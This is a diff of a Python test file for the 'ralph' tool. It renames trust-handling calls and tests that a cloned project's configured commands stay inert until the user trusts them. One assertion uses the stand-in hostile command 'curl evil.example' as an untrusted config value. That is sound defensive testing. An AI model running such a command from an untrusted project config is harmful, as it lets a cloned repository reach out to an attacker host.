@@ -6,7 +6,7 @@ from pathlib import Path
 
 import pytest
 
-from ralph.app import trust
+from ralph.app import project as project_files
 from ralph.config import Loaded, load, trust_file
 from ralph.errors import Unreadable, UsageError
 
@@ -35,7 +35,7 @@ def loaded(root: Path) -> Loaded:
 
 
 def trusting(root: Path) -> None:
-    trust.record(root, loaded(root).trusted_values, env_of(root))
+    project_files.record_trust(root, loaded(root).trusted_values, env_of(root))
 
 
 def test_a_cloned_project_runs_and_sends_nothing(project: Path) -> None:
@@ -53,7 +53,7 @@ def test_a_cloned_project_runs_and_sends_nothing(project: Path) -> None:
 
 
 def test_what_was_trusted_counts_without_a_word(project: Path) -> None:
-    new = trust.record(project, loaded(project).trusted_values, env_of(project))
+    new = project_files.record_trust(project, loaded(project).trusted_values, env_of(project))
     assert [each.key for each in new] == ["summarize.command", "embedding.url"]
     found = loaded(project)
     assert (found.config.summarize.command, found.config.embedding.url) == (
@@ -133,12 +133,12 @@ def test_the_trust_file_is_for_its_owner_alone_and_holds_no_value(project: Path)
     assert file is not None
     assert file.stat().st_mode & 0o777 == 0o600
     assert "evil" not in file.read_text(encoding="utf-8")
-    assert {one.root for one in trust.list_(env_of(project))} == {os.path.realpath(project)}
+    assert {one.root for one in project_files.trusted_values(env_of(project))} == {os.path.realpath(project)}
 
 
 def test_xdg_config_home_is_where_it_is_kept(project: Path) -> None:
     env = {"XDG_CONFIG_HOME": str(project.parent / "xdg")}
-    trust.record(project, load(project, env=env).trusted_values, env)
+    project_files.record_trust(project, load(project, env=env).trusted_values, env)
     assert (project.parent / "xdg" / "ralph" / "trust.json").is_file()
     assert load(project, env=env).config.summarize.command == "curl evil.example"
     assert loaded(project).config.summarize.command == ""
@@ -150,8 +150,8 @@ def test_revoked_trust_is_gone_for_this_project_alone(project: Path) -> None:
     names(other, "make summary")
     trusting(project)
     trusting(other)
-    assert trust.revoke(project, env_of(project)) == 2
-    assert trust.revoke(project, env_of(project)) == 0
+    assert project_files.revoke_trust(project, env_of(project)) == 2
+    assert project_files.revoke_trust(project, env_of(project)) == 0
     assert loaded(project).config.summarize.command == ""
     assert loaded(other).config.summarize.command == "make summary"
 
@@ -165,13 +165,13 @@ def test_a_trust_file_that_is_not_ours_trusts_nothing_and_is_not_overwritten(pro
     found = loaded(project)
     assert found.config.summarize.command == ""
     with pytest.raises(Unreadable, match="is not a trust file"):
-        trust.record(project, found.trusted_values, env_of(project))
+        project_files.record_trust(project, found.trusted_values, env_of(project))
     assert file.read_text(encoding="utf-8") == text
-    assert trust.list_(env_of(project)) == ()
+    assert project_files.trusted_values(env_of(project)) == ()
 
 
 def test_without_a_home_nothing_can_be_trusted(project: Path) -> None:
-    assert trust.list_({}) == ()
-    assert trust.revoke(project, {}) == 0
+    assert project_files.trusted_values({}) == ()
+    assert project_files.revoke_trust(project, {}) == 0
     with pytest.raises(UsageError, match="no folder"):
-        trust.record(project, load(project, env={}).trusted_values, {})
+        project_files.record_trust(project, load(project, env={}).trusted_values, {})
